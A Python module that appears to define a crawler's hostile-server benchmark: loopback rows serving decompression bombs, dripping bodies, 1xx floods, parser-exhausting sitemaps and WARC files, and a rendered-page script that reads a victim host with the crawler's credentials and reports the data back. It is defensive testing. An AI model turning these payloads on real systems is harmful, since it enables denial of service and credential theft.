"""The rows of ``scripts/bench hostile``: one attack each, what it may cost, and what must hold.

A row is used in two processes. In that of the server it answers for all of 127.0.0.0/8: its own
hosts are 127.9.x.y and hosts that nobody asked for (strangers) 127.200.x.y. In that of the
benchmark it says what is run, and judges the figures.
"""

from __future__ import annotations

import gzip
import zlib
from collections import Counter
from collections.abc import Callable, Iterator, Mapping, Sequence
from dataclasses import dataclass
from functools import cache
from itertools import chain, pairwise, repeat
from pathlib import Path
from typing import Any, ClassVar

import zstandard

from scripts.benchmarks.site_contents import Calm, head, simple
from scripts.benchmarks.store_inspection import reading

#: Bytes to send, or seconds to wait; an exception hangs up.
Pieces = Iterator[bytes | float]

BAD_PORT = 6_667
_HTML = "Content-Type: text/html"
_XML = "Content-Type: application/xml"
_TEXT = "Content-Type: text/plain"
_PIECE_BYTES = 65_536
_MB = 1_000_000
_BOMB_MIB = 2_048
_FRONT = Calm(1)


@dataclass(frozen=True, slots=True)
class Request:
    """A request as the server reads it; header names are in lower case."""

    host: str
    port: int
    path: str
    headers: Mapping[str, str]

    @property
    def origin(self) -> str:
        """Scheme, address and port."""
        return f"http://{self.host}:{self.port}"

    def beside(self, host: str) -> str:
        """The origin of another host of the same server."""
        return f"http://{host}:{self.port}"


@dataclass(frozen=True, slots=True)
class Seen:
    """A request as the server logged it; the end is that of the answer, or of the connection."""

    host: str
    port: int
    path: str
    start: float
    end: float
    credentials: str


@dataclass(slots=True)
class Outcome:
    """What a row's processes left behind, for its judgement."""

    figures: dict[str, Any]
    reports: list[dict[str, Any]]
    said: str
    hostile: list[Seen]
    strangers: list[Seen]
    neighbours: dict[str, list[float]]
    store: Path


def html(*parts: str) -> bytes:
    """A page with enough words to be content, and these parts."""
    return _FRONT.body(0).replace(b"</main>", "".join(parts).encode() + b"\n</main>")


def links(urls: Sequence[str]) -> str:
    """A list of links."""
    return "".join(f'<li><a href="{url}">Next</a>\n' for url in urls)


def whole(body: bytes, *lines: str) -> Pieces:
    """A complete answer with the status 200."""
    return iter(simple(200, body, *lines).pieces)


def missing() -> Pieces:
    """An answer that there is nothing."""
    return iter(simple(404, b"", _TEXT).pieces)


def plain(size: int, start: bytes, line: bytes, end: bytes, lasting_s: int, kind: str) -> Pieces:
    """A body of so many bytes, of which the last thousands come one by one, a second each."""
    yield head(200, kind, f"Content-Length: {size}") + start
    lines = line * (_PIECE_BYTES // len(line))
    left = size - len(start) - len(end) - lasting_s * 1_000
    yield from repeat(lines, left // len(lines))
    yield b" " * (left % len(lines))
    for _ in range(lasting_s):
        yield 1.0
        yield b" " * 1_000
    yield end


class Row:
    """One attack. ``most`` bounds figures, beside the bounds of all rows; ``faults`` are numbers.

    Each of ``invocations`` has ``seconds``; the first is killed after ``killed_after_s``. With
    ``neighbours`` calm hosts are crawled beside, at least at ``least_rate`` of their rate alone.
    """

    name: str = "alone"
    faults: str = ""
    hosts = 1
    seconds = 12.0
    invocations = 1
    killed_after_s: float | None = None
    neighbours = True
    least_rate = 0.8
    files: int | None = None
    #: Ports of the server; 0 is any that is free.
    ports: Sequence[int] = (0,)
    options: Sequence[str] = ()
    exit_codes: Sequence[int] = (0,)
    most: ClassVar[Mapping[str, float]] = {}

    def addresses(self) -> list[str]:
        """The hostile hosts."""
        return [f"127.9.{n // 250}.{n % 250 + 1}" for n in range(self.hosts)]

    def seeds(self, port: int) -> list[str]:
        """What the site list holds of the attack."""
        return [f"http://{address}:{port}/" for address in self.addresses()]

    def command(self, directory: Path) -> list[str]:
        """The verb and its arguments, in a directory that holds ``sites.txt``."""
        return [
            "crawl", "--sites", "sites.txt", "--db", "store.db", "--json", "--verbose",
            "--allow-private-addresses", "--time-limit", f"{self.seconds:g}", "--patience", "60",
            "--delay", "0.25", *self.options,
        ]  # fmt: skip

    def answer(self, request: Request) -> Pieces:
        """Answer one request."""
        if request.path == "/robots.txt":
            return self.robots(request)
        return self.page(request)

    def prepare(self) -> None:
        """Make what the answers need, before the first request."""

    def robots(self, request: Request) -> Pieces:
        """No robots.txt."""
        return missing()

    def page(self, request: Request) -> Pieces:
        """A page without harm."""
        return whole(html(), _HTML)

    def check(self, outcome: Outcome) -> Iterator[str]:
        """What else does not hold."""
        yield from ()


class _PageAttack(Row):
    """One of the answers of ``hostile_sites``."""

    faults = "pages"
    seconds = 8.0

    def prepare(self) -> None:
        _page_attacks()

    def page(self, request: Request) -> Pieces:
        return _page_attacks()[self.name]() if request.path == "/" else missing()

    def check(self, outcome: Outcome) -> Iterator[str]:
        report = outcome.reports[-1]
        if not report.get("errors") and not any("unparsable" in r for r in report["reasons"]):
            yield "it is no recorded outcome"


@cache
def _page_attacks() -> Mapping[str, Callable[[], Iterator[bytes]]]:
    from scripts.benchmarks.hostile_sites import attacks

    return attacks(_BOMB_MIB)


def _page_attack(name: str) -> type[Row]:
    return type(name, (_PageAttack,), {"name": name})


class _Keepalive(Row):
    """More hosts than files may be open, whose connections stay open."""

    name, faults = "keepalive", "1"
    hosts, seconds, files, neighbours = 1_500, 30.0, 1_024, False

    def check(self, outcome: Outcome) -> Iterator[str]:
        pages = outcome.reports[-1].get("pages")
        if pages != self.hosts:
            yield f"{pages} of {self.hosts} pages"


class _TenThousandHosts(_Keepalive):
    """Ten thousand of them."""

    name = "ten_thousand_hosts"
    hosts, seconds = 10_000, 240.0


class _NoDescriptors(_Keepalive):
    """Hardly any files."""

    name = "no_descriptors"
    hosts, seconds, files = 300, 20.0, 100


class _ContentType(Row):
    """Bytes in a field that no text holds; the list is crawled twice."""

    name, faults = "content_type_crash", "2"
    invocations, seconds, exit_codes = 2, 6.0, (0, 1)

    def page(self, request: Request) -> Pieces:
        # A field name or a reason phrase that is none would be a failure before this field is read.
        body, named = html(), b"X-\xff" if request.path == "/x" else b"X"
        lines = b"Content-Type: application/\xff\xfe\r\n" + named + b": \xfe\r\n"
        yield (b"HTTP/1.1 200 OK\r\n" + lines + b"Content-Length: %d\r\n\r\n" % len(body) + body)

    def seeds(self, port: int) -> list[str]:
        return [each + path for each in super().seeds(port) for path in ("", "x")]

    def check(self, outcome: Outcome) -> Iterator[str]:
        if len(outcome.reports) < self.invocations or "Traceback" in outcome.said:
            yield "a crawl ended by it"


class _SlotsStarved(Row):
    """Many robots.txt name sitemaps on hosts that nobody asked for, and that drip."""

    name, faults = "slots_starved", "3"
    hosts, seconds = 30, 20.0

    def robots(self, request: Request) -> Pieces:
        a, b = request.host.split(".")[2:]
        names = (request.beside(f"127.{200 + n}.{a}.{b}") for n in range(10))
        return whole("".join(f"Sitemap: {each}/s.xml\n" for each in names).encode(), _TEXT)

    def answer(self, request: Request) -> Pieces:
        if not request.host.startswith("127.2"):
            return super().answer(request)
        return chain([head(200, _XML, "Connection: close")], *repeat((1.0, b" " * 200), 60))


class _RobotsStrangers(Row):
    """A robots.txt of 448 kB names 12,000 hosts, a port that is none of the web, a long URL."""

    name, faults = "robots_strangers", "4"
    ports = (0, BAD_PORT)
    seconds = 15.0
    options = ("--max-pages", "5")
    neighbours = False
    most: ClassVar[Mapping[str, float]] = {"strangers": 10, "requests_hostile": 20}

    def robots(self, request: Request) -> Pieces:
        if not request.host.startswith("127.9."):
            return missing()
        names = [f"http://127.200.0.1:{BAD_PORT}/s.xml", f"{request.origin}/{'s' * 300_000}.xml"]
        names += [
            f"{request.beside(f'127.{201 + n // 62_500}.{n // 250 % 250}.{n % 250 + 1}')}/s.xml"
            for n in range(4_000)
        ]
        return whole("".join(f"Sitemap: {each}\n" for each in names).encode()[:511_000], _TEXT)

    def check(self, outcome: Outcome) -> Iterator[str]:
        asked = outcome.hostile + outcome.strangers
        if any(each.port == BAD_PORT for each in asked):
            yield f"port {BAD_PORT} was asked"
        longest = max(len(each.path) for each in asked)
        if longest > 2_048:
            yield f"a path of {longest:,} characters was asked for"


class _Sitemap(Row):
    """A sitemap that robots.txt names; ``/s.xml`` is what it says."""

    def robots(self, request: Request) -> Pieces:
        return whole(f"Sitemap: {request.origin}/s.xml\n".encode(), _TEXT)

    def page(self, request: Request) -> Pieces:
        return self.sitemap(request) if request.path != "/" else whole(html(), _HTML)

    def sitemap(self, request: Request) -> Pieces:
        """The sitemap."""
        raise NotImplementedError


class _SitemapNested(_Sitemap):
    """48 MB of elements inside each other, in 48 kB."""

    name, faults = "sitemap_nested", "5"

    def sitemap(self, request: Request) -> Pieces:
        return whole(_packed(b"<urlset>", b"<a>", 16 * _MB), "Content-Type: application/gzip")


class _SitemapStall(_Sitemap):
    """25 million lines that are no URLs, in 48 kB."""

    name, faults = "sitemap_stall", "5"

    def sitemap(self, request: Request) -> Pieces:
        return whole(_packed(b"", b"a\n", 25 * _MB), "Content-Type: application/gzip")


class _SitemapRejected(_Sitemap):
    """A sitemap of 48 MB whose entries are all of other hosts, or have dates that are none."""

    name, faults = "sitemap_rejected", "5"

    def sitemap(self, request: Request) -> Pieces:
        entry = b"<url><loc>http://127.200.0.1/</loc><lastmod>%s</lastmod></url>" % (b"9" * 900)
        return whole(_packed(b"<urlset>", entry, 50_000), "Content-Type: application/gzip")


@cache
def _packed(start: bytes, part: bytes, times: int) -> bytes:
    return gzip.compress(start + part * times, 9)


class _SitemapsAtOnce(_Sitemap):
    """Sitemaps of 48 MB each, of which the last bytes take their time."""

    name, faults = "sitemaps_at_once", "6"
    hosts, seconds = 24, 25.0

    def sitemap(self, request: Request) -> Pieces:
        entry = b"<url><loc>%s/p</loc><x>%s</x></url>" % (request.origin.encode(), b"x" * 1_100)
        return plain(48 * _MB, b"<urlset>", entry, b"</urlset>", 10, _XML)


class _ManySitemapsAtOnce(_SitemapsAtOnce):
    """As many as there are exchanges, so that the neighbours wait for one."""

    least_rate = 0.0

    name = "sitemaps_at_once_256"
    hosts = 256


class _BodiesAtOnce(Row):
    """Pages of 10 MB, likewise."""

    least_rate = 0.0

    name, faults = "bodies_at_once", "6"
    hosts, seconds = 256, 25.0

    def page(self, request: Request) -> Pieces:
        line = b"<p>%s</p>\n" % (b"some words of text " * 20)
        return plain(10 * _MB, b"<title>Long</title>", line, b"<p>End", 8, _HTML)


class _BombsAtOnce(_BodiesAtOnce):
    """Pages of 10 MB in a few hundred bytes of zstd, of which the last takes its time."""

    name = "bombs_at_once"

    def page(self, request: Request) -> Pieces:
        body = zstandard.compress(b"<title>Long</title><p>" + b" " * (10 * _MB), 19)
        yield head(200, _HTML, "Content-Encoding: zstd", f"Content-Length: {len(body)}")
        yield from (body[:-1], 8.0, body[-1:])


class _RobotsWildcards(Row):
    """A robots.txt of 495 kB of wildcards, and 1,000 links that it forbids."""

    name, faults = "robots_wildcards", "7"
    seconds = 20.0
    most: ClassVar[Mapping[str, float]] = {"cpu_s": 8.0}

    def robots(self, request: Request) -> Pieces:
        rules = b"".join(b"Disallow: /*aab*%d\n" % n for n in range(10**6, 10**6 + 20_000))
        return whole(b"User-agent: *\nDisallow: /*aab*link\n" + rules, _TEXT)

    def page(self, request: Request) -> Pieces:
        return whole(html(links([f"/{'aab' * 60}/{n}link" for n in range(1_000)])), _HTML)

    def check(self, outcome: Outcome) -> Iterator[str]:
        refused = outcome.reports[-1].get("refused_by_robots")
        if refused != 1_000:
            yield f"{refused} of 1000 links were refused"


class _Flood1xx(Row):
    """Interim answers without end."""

    name, faults = "flood_1xx", "8"

    def page(self, request: Request) -> Pieces:
        return repeat(b"HTTP/1.1 103 X\r\nLink: </s.css>\r\n\r\n" * 1_000)


class _OddValidators(Row):
    """Validators that are no field values; three visits."""

    name, faults = "odd_validators", "9"
    invocations, seconds, neighbours = 3, 8.0, False
    validators = (
        b'"a\x01b"',
        b'"\xff\xfe"',
        b'"a\tb"',
        b"\x7f",
        b'"%s"' % (b"x" * 9_000),
        b'"\xc3\xa9"',
    )

    def page(self, request: Request) -> Pieces:
        if request.path == "/":
            return whole(html(links([f"/{n}" for n in range(len(self.validators))])), _HTML)
        if not request.path[1:].isdecimal():
            return missing()
        value = self.validators[int(request.path[1:])]
        body = html(request.path)
        lines = (b"Content-Type: text/html", b"ETag: " + value, b"Last-Modified: " + value)
        first = b"HTTP/1.1 200 OK\r\n" + b"\r\n".join(lines)
        return iter([first + b"\r\nContent-Length: %d\r\n\r\n" % len(body) + body])

    def check(self, outcome: Outcome) -> Iterator[str]:
        asked = Counter(each.path for each in outcome.hostile)
        for n, value in enumerate(self.validators):
            if asked[f"/{n}"] < self.invocations:
                yield f"the page with {value[:10]!r} was asked for {asked[f'/{n}']} times"
        if any("internal" in reason for r in outcome.reports for reason in r.get("reasons", {})):
            yield "a page failed as internal"


class _LongUrls(_Sitemap):
    """Sitemaps of 50,000 URLs of 2,000 characters each, packed into 200 kB."""

    name, faults = "sitemap_long_urls", "the fifth of the second review"
    hosts, seconds = 4, 40.0
    most: ClassVar[Mapping[str, float]] = {"rows": 250_000}

    def sitemap(self, request: Request) -> Pieces:
        return whole(_long_urls(request.origin), "Content-Type: application/gzip")


@cache
def _long_urls(origin: str) -> bytes:
    entries = (f"<url><loc>{origin}/{n}/{'x' * 1_950}</loc></url>" for n in range(50_000))
    return gzip.compress(f"<urlset>{''.join(entries)}</urlset>".encode(), 6)


class _IndexEndless(Row):
    """Indexes of ten indexes each, though five pages were wanted."""

    name, faults = "sitemap_index_endless", "12"
    seconds, neighbours = 20.0, False
    options = ("--max-pages", "5", "--delay", "0")
    most: ClassVar[Mapping[str, float]] = {"requests_hostile": 1_010, "rows": 250_000}

    def robots(self, request: Request) -> Pieces:
        return whole(f"Sitemap: {request.origin}/i\n".encode(), _TEXT)

    def page(self, request: Request) -> Pieces:
        if request.path == "/":
            return whole(html(), _HTML)
        each = "".join(
            f"<sitemap><loc>{request.origin}{request.path}{n}</loc></sitemap>" for n in range(10)
        )
        return whole(f"<sitemapindex>{each}</sitemapindex>".encode(), _XML)


class _SitemapFlood(Row):
    """Ten sitemaps of 50,000 pages."""

    name, faults = "sitemap_flood", "12"
    seconds = 25.0
    most: ClassVar[Mapping[str, float]] = {"rows": 250_000}

    def robots(self, request: Request) -> Pieces:
        each = (f"Sitemap: {request.origin}/{n}.xml\n" for n in range(10))
        return whole("".join(each).encode(), _TEXT)

    def page(self, request: Request) -> Pieces:
        if not request.path.endswith(".xml"):
            return whole(html(), _HTML)
        start = int(request.path[1:-4]) * 50_000
        urls = (
            f"<url><loc>{request.origin}/p/{n}</loc></url>" for n in range(start, start + 50_000)
        )
        return whole(f"<urlset>{''.join(urls)}</urlset>".encode(), _XML)


class _SeedRedirect(Row):
    """A seed that leads to another host for now; two visits."""

    name, faults = "seed_redirect", "14"
    invocations, seconds, neighbours = 2, 6.0, False
    exit_codes = (0, 1)
    # In each visit its robots.txt and one page.
    most: ClassVar[Mapping[str, float]] = {"requests_strangers": 4}

    def page(self, request: Request) -> Pieces:
        if request.host.startswith("127.9."):
            lines = f"Location: {request.beside('127.200.0.1')}/", "Content-Length: 0"
            return iter([head(302, *lines)])
        return whole(html(links([f"/{n}" for n in range(100)])), _HTML)


class _ParserQueue(Row):
    """Hosts whose pages take the parser long, and one with an honest large page."""

    name, faults = "parser_queue", "18"
    hosts, seconds = 11, 25.0

    def page(self, request: Request) -> Pieces:
        if request.host.endswith(".11"):
            yield from self._honest(request)
            return
        yield from whole(self.slow(int(request.host.rpartition(".")[2])), _HTML)

    def slow(self, number: int) -> bytes:
        """The page of a host: each paragraph opens again all elements that were left open."""
        return _unclosed(3_000, 100_000)

    def _honest(self, request: Request) -> Pieces:
        if request.path == "/":
            yield 2.0
        text = "".join(f"<p>{'some words of text ' * 30}{n}\n" for n in range(2_000))
        yield from whole(html(links(["/2"]), text if request.path == "/" else ""), _HTML)

    def check(self, outcome: Outcome) -> Iterator[str]:
        asked = {s.path: s for s in outcome.hostile if s.host.endswith(".11")}
        waited = asked["/2"].start - asked["/"].end if "/2" in asked else self.seconds
        outcome.figures["waited_s"] = round(waited, 1)
        if waited > 15.0:
            yield f"an honest large page waited {waited:.1f} s"


class _ParserMemory(_ParserQueue):
    """Likewise with pages of up to 8 MB; of each host more pages follow."""

    name, faults = "parser_memory", "6, 18"
    seconds, least_rate = 40.0, 0.5

    def slow(self, number: int) -> bytes:
        return _unclosed((300, 1_000, 3_000)[number % 3], (600_000, 2_000_000)[number % 2])


@cache
def _unclosed(elements: int, paragraphs: int) -> bytes:
    opened = "".join(f"<font size={n}>" for n in range(elements))
    return html(links([f"/{n}" for n in range(20)]), opened, "<p>x" * paragraphs)


class _Polite(Row):
    """Gaps between requests are at least the delay."""

    faults = "19"
    neighbours = False
    delay_s = 3.0
    options = ("--delay", "3")

    def check(self, outcome: Outcome) -> Iterator[str]:
        seen = sorted(outcome.hostile, key=lambda each: each.start)
        shortest = min((b.start - self.begin(a) for a, b in pairwise(seen)), default=99.0)
        outcome.figures["shortest_gap_s"] = round(shortest, 3)
        # The server's process notes the end of an answer when it has its turn, late if it is busy.
        if shortest < self.delay_s - 0.3:
            yield f"asked again after {shortest:.3f} s"
        if len(seen) < 3:
            yield f"{len(seen)} requests"

    def begin(self, seen: Seen) -> float:
        """When the gap after a request begins."""
        return seen.end


class _PoliteAbort(_Polite):
    """A host hangs up on the kept connection."""

    name = "polite_abort"
    seconds = 15.0

    def robots(self, request: Request) -> Pieces:
        return whole(b"User-agent: *\nDisallow:\n", _TEXT)

    def page(self, request: Request) -> Pieces:
        raise ConnectionAbortedError


class _PoliteKill(_Polite):
    """The crawler is killed while a request is under way, and started again."""

    name = "polite_kill"
    invocations, killed_after_s, seconds = 2, 5.0, 8.0
    exit_codes = (0, 1, -9)

    def page(self, request: Request) -> Pieces:
        yield 2.0
        yield from whole(html(), _HTML)


class _PoliteKillInFlight(_PoliteKill):
    """Likewise with an answer that never ends before the kill."""

    name = "polite_kill_in_flight"

    def page(self, request: Request) -> Pieces:
        yield 30.0

    def begin(self, seen: Seen) -> float:
        return seen.start


class _Userinfo(Row):
    """Links, redirects and sitemaps with credentials."""

    name, faults = "userinfo", "20"
    seconds, neighbours = 10.0, False
    secret = "s3cretpw"

    def robots(self, request: Request) -> Pieces:
        return whole(f"Sitemap: {self._with(request)}/s.xml\n".encode(), _TEXT)

    def page(self, request: Request) -> Pieces:
        url = self._with(request)
        if request.path == "/":
            return whole(html(links([f"{url}/{n}" for n in range(5)] + ["/r"])), _HTML)
        if request.path == "/r":
            return iter([head(302, f"Location: {url}/redirected", "Content-Length: 0")])
        if request.path == "/s.xml":
            return whole(f"<urlset><url><loc>{url}/listed</loc></url></urlset>".encode(), _XML)
        return whole(b"<p>Few words", _HTML)

    def _with(self, request: Request) -> str:
        return request.origin.replace("//", f"//user:{self.secret}@")

    def check(self, outcome: Outcome) -> Iterator[str]:
        sent = sum(bool(each.credentials) for each in outcome.hostile + outcome.strangers)
        if sent:
            yield f"{sent} requests with credentials"
        with reading(outcome.store) as connection:
            # The robots.txt is kept as it was served.
            lines = (line for line in connection.iterdump() if '"robots"' not in line)
            if any(self.secret in line for line in lines):
                yield "the store keeps credentials"


class _OtherPorts(Row):
    """Links, redirects, sitemaps and a base of our server that lead to another port of its host."""

    name, faults = "other_ports", "the fourth of the second review"
    seconds, neighbours = 10.0, False
    ports = (0, 48_081)

    def seeds(self, port: int) -> list[str]:
        return [*super().seeds(port), *super().seeds(self.ports[1])]

    def command(self, directory: Path) -> list[str]:
        server = (directory / "sites.txt").read_text("utf-8").split("/")[2]
        table = f'[[sites]]\nmatch = "http://{server}"\nuser = "us"\npassword = "s3cretpw"\n'
        (directory / "ours.toml").write_text(table, "utf-8")
        (directory / "ours.toml").chmod(0o600)
        return [*super().command(directory), "--config", "ours.toml"]

    def robots(self, request: Request) -> Pieces:
        return whole(f"Sitemap: {self._other(request)}/s.xml\n".encode(), _TEXT)

    def page(self, request: Request) -> Pieces:
        other = self._other(request)
        if request.path == "/":
            paths = [f"{other}/{n}" for n in range(5)] + ["/r", "/r/301", "/base"]
            return whole(html(links(paths)), _HTML)
        if request.path.startswith("/r"):
            status = 301 if request.path == "/r/301" else 302
            return iter([head(status, f"Location: {other}/sent", "Content-Length: 0")])
        if request.path == "/s.xml":
            return whole(f"<urlset><url><loc>{other}/listed</loc></url></urlset>".encode(), _XML)
        if request.path == "/base":
            return whole(html(f"<base href='{other}/'>", links(["below"])), _HTML)
        return whole(html(request.path), _HTML)

    def _other(self, request: Request) -> str:
        return f"http://{request.host}:{self.ports[1]}"

    def check(self, outcome: Outcome) -> Iterator[str]:
        told = [each for each in outcome.hostile if each.credentials]
        others = [each for each in outcome.hostile if each.port == self.ports[1]]
        if not told or not others:
            yield "one of the two servers was not asked as it should be"
        if leaked := sum(each.port == self.ports[1] for each in told):
            yield f"{leaked} requests to another port with credentials"


class _RenderedReads(Row):
    """A rendered page that asks another host, to which we have a password, and tells what it read.

    It needs Chromium.
    """

    name, faults = "rendered_reads", "the first of the second review"
    seconds, neighbours, hosts = 30.0, False, 2
    secret = "s3cret-account"
    #: A browser is no part of the bounds of a crawl, and its driver is loaded by the first page.
    most: ClassVar[Mapping[str, float]] = {"peak_mb": 1_500.0, "stretch_ms": 1_000.0}
    tries = (
        "fetch(V + 'plain').then(got => got.text())",
        "fetch(V + 'cookies', {credentials: 'include'}).then(got => got.text())",
        "fetch('/moved').then(got => got.text())",
        "import(V + 'json', {with: {type: 'json'}}).then(it => it.default.account)",
        (
            "new Promise(done => { const xhr = new XMLHttpRequest(); xhr.open('GET', V + 'xhr'); "
            "xhr.onloadend = () => done(xhr.responseText); xhr.send(); })"
        ),
    )
    asked = ("/plain", "/cookies", "/moved", "/json", "/xhr")

    def command(self, directory: Path) -> list[str]:
        seeds = [it.rstrip("/") for it in (directory / "sites.txt").read_text("utf-8").split()]
        ours = f'[[sites]]\nmatch = "{seeds[1]}"\nuser = "us"\npassword = "s3cretpw"\n'
        theirs = f'[[sites]]\nmatch = "{seeds[0]}"\nrender = "always"\nrender_wait = "#all"\n'
        (directory / "ours.toml").write_text(ours + theirs, "utf-8")
        (directory / "ours.toml").chmod(0o600)
        return [*super().command(directory), "--config", "ours.toml"]

    def page(self, request: Request) -> Pieces:
        _, victim = self.addresses()
        if request.host == victim:
            if request.path == "/":
                return whole(html("The account of somebody."), _HTML)
            # To whoever is in this network.
            account = f'{{"account": "{self.secret}"}}'.encode()
            return whole(account, "Content-Type: application/json")
        if request.path == "/moved":
            to = f"{request.beside(victim)}/moved"
            return iter([head(302, f"Location: {to}", "Content-Length: 0")])
        if request.path != "/":
            return whole(b"", _TEXT)
        tries = ", ".join(f"() => {each}" for each in self.tries)
        script = (
            f"const V = '{request.beside(victim)}/'; (async () => {{ for (const each of [{tries}]) "
            "{ const got = await each().catch(() => ''); document.body.append(got); "
            "await fetch('/told/' + encodeURIComponent(got)); } "
            "document.body.insertAdjacentHTML('beforeend', '<p id=all>All tried.</p>'); })();"
        )
        return whole(html(f"<script>{script}</script>"), _HTML)

    def check(self, outcome: Outcome) -> Iterator[str]:
        attacker, victim = self.addresses()
        at_victim = [each for each in outcome.hostile if each.host == victim]
        if missing := set(self.asked) - {each.path for each in at_victim}:
            yield f"not tried: {', '.join(sorted(missing))}"
        if any(self.secret in each.path for each in outcome.hostile):
            yield "the page has read what is there for us"
        if any(each.credentials and each.host == attacker for each in outcome.hostile):
            yield "the page's host was told our password"
        if sent := sum(bool(each.credentials) and each.path in self.asked for each in at_victim):
            yield f"{sent} of the page's requests had our password"
        with reading(outcome.store) as connection:
            if any(self.secret in line for line in connection.iterdump()):
                yield "the store has what is there for us"


class _SilentSeeds(Row):
    """16,000 URLs of a host that is down."""

    name, faults = "silent_seeds", "21"
    seconds, neighbours = 10.0, False
    exit_codes = (0, 1)
    most: ClassVar[Mapping[str, float]] = {"cpu_s": 12.0, "seconds": 16.0}

    def seeds(self, port: int) -> list[str]:
        return [f"http://127.9.0.1:2/p/{n}" for n in range(16_000)]


class _GzipMembers(Row):
    """Half a million empty members of gzip, packed once more."""

    name, faults = "gzip_members", "22"

    def page(self, request: Request) -> Pieces:
        body = _packed(b"", gzip.compress(b""), 500_000)
        return whole(body, _HTML, "Content-Encoding: gzip, gzip")


class _SitemapEncoding(_Sitemap):
    """Sitemaps in encodings that nobody knows, or that XML forbids."""

    name, faults = "sitemap_encoding", "25"
    seconds, neighbours = 8.0, False
    encodings = ("nonsense", "utf-7", "base64", "punycode", "idna", "utf-16", "undefined")

    def robots(self, request: Request) -> Pieces:
        each = (f"Sitemap: {request.origin}/{name}\n" for name in self.encodings)
        return whole("".join(each).encode(), _TEXT)

    def sitemap(self, request: Request) -> Pieces:
        said = f'<?xml version="1.0" encoding="{request.path[1:]}"?><rss><channel><item/></channel>'
        return whole(said.encode(), _XML)

    def check(self, outcome: Outcome) -> Iterator[str]:
        # The report counts pages only.
        if '"internal"' in outcome.said or "Traceback" in outcome.said:
            yield "one failed as internal"


class _File(Row):
    """A file that a command reads."""

    faults = "25"
    neighbours = False
    seconds = 15.0
    exit_codes = (0, 1, 2)
    most: ClassVar[Mapping[str, float]] = {"cpu_s": 10.0}

    def check(self, outcome: Outcome) -> Iterator[str]:
        for fault in ("Traceback", "internal error", "fault of Freshet"):
            if fault in outcome.said:
                yield f"it says {fault!r}"


class _ImportBomb(_File):
    """A sitemap of 48 MB of elements inside each other."""

    name = "import_gz_bomb"

    def command(self, directory: Path) -> list[str]:
        (directory / "bomb.xml.gz").write_bytes(_packed(b"<urlset>", b"<a>", 16 * _MB))
        return ["import", "bomb.xml.gz", "--into", "list.txt", "--format", "sitemap"]


class _WarcFile(_File):
    """A capture that is read into a store."""

    def command(self, directory: Path) -> list[str]:
        packed = zlib.compressobj(9, zlib.DEFLATED, 31)
        with (directory / "a.warc.gz").open("wb") as file:
            for piece in self.record():
                file.write(packed.compress(piece))
            file.write(packed.flush())
        return ["replay", "a.warc.gz", "--db", "store.db", "--json"]

    def record(self) -> Iterator[bytes]:
        """The bytes of the file before packing."""
        raise NotImplementedError

    def head(self, length: int) -> bytes:
        """The head of a record of a response."""
        lines = (
            "WARC/1.1", "WARC-Type: response", "WARC-Date: 2026-01-01T00:00:00Z",
            "WARC-Record-ID: <urn:uuid:00000000-0000-4000-8000-000000000001>",
            "WARC-Target-URI: http://example.org/",
            "Content-Type: application/http;msgtype=response",
            f"Content-Length: {length}", "", "",
        )  # fmt: skip
        return "\r\n".join(lines).encode()


class _WarcHeads(_WarcFile):
    """An HTTP head of 400 MB."""

    name = "warc_http_heads"
    line = b"X-Padding: 0\r\n"

    def record(self) -> Iterator[bytes]:
        yield self.head(17 + 400 * 70_000 * len(self.line) + 2)
        yield b"HTTP/1.1 200 OK\r\n"
        yield from repeat(self.line * 70_000, 400)
        yield b"\r\n"


class _WarcInterim(_WarcHeads):
    """Interim answers without end, in a record."""

    name = "warc_interim_heads"
    line = b"HTTP/1.1 100 C\r\n\r\n"


class _WarcFakeHeads(_WarcFile):
    """Heads of records that are none, one after the other."""

    name = "warc_fake_heads"

    def record(self) -> Iterator[bytes]:
        yield b"WARC/1.1\r\n" * 32_000


class _WarcFakeHeadsPlain(_WarcFakeHeads):
    """Likewise in a file that is not packed."""

    name = "warc_fake_heads_plain"

    def command(self, directory: Path) -> list[str]:
        (directory / "a.warc").write_bytes(b"".join(self.record()))
        return ["replay", "a.warc", "--db", "store.db", "--json"]


class _DeepToml(_File):
    """Settings with 100,000 lists in each other."""

    name = "deep_toml"

    def command(self, directory: Path) -> list[str]:
        (directory / "deep.toml").write_text("a = " + "[" * 100_000, "utf-8")
        return ["config", "show", "--config", "deep.toml"]


class _LongSiteLine(_File):
    """A site list of one line of 50 MB."""

    name = "long_site_line"

    def command(self, directory: Path) -> list[str]:
        (directory / "sites.txt").write_text("http://" + "a" * 50_000_000, "utf-8")
        return Row.command(self, directory)


_PAGES = "gzip_bomb", "brotli_bomb", "zstd_bomb", "endless_body", "nested_tags", "many_headers"
_CLASSES: Sequence[type[Row]] = (
    *map(_page_attack, _PAGES),
    _Keepalive, _TenThousandHosts, _NoDescriptors, _ContentType, _SlotsStarved,
    _RobotsStrangers, _SitemapNested,
    _SitemapStall, _SitemapRejected, _SitemapsAtOnce, _ManySitemapsAtOnce, _BodiesAtOnce,
    _BombsAtOnce,
    _RobotsWildcards, _Flood1xx, _OddValidators, _IndexEndless, _SitemapFlood, _SeedRedirect,
    _ParserQueue, _ParserMemory, _PoliteAbort, _PoliteKill, _PoliteKillInFlight, _Userinfo,
    _OtherPorts, _RenderedReads, _LongUrls,
    _SilentSeeds, _GzipMembers, _SitemapEncoding, _ImportBomb, _WarcHeads, _WarcInterim,
    _WarcFakeHeads, _WarcFakeHeadsPlain, _DeepToml, _LongSiteLine,
)  # fmt: skip
ROWS: Mapping[str, Row] = {each.name: each() for each in _CLASSES}
